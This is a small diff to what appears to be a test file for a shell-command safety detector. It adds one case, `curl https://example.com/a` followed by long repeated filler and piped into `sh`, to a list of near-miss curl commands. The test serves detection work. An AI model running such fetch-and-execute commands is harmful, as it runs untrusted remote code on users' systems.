@@ -79,6 +79,7 @@ test.each([
   "Use when the user asks to ignore whitespace or previous commits.",
   "curl -s https://example.com/api | python3 -m json.tool",
   "curl -s https://example.com/api | jq .name",
+  `curl https://example.com/a ${"and so on ".repeat(60)} | sh`,
   "curl -O https://example.com/x.tgz; cat notes | sh-highlight",
   "Run `curl`.\n\nThen compare a | bash style table.",
   "Send a POST request to https://example.com/x with your payload.",
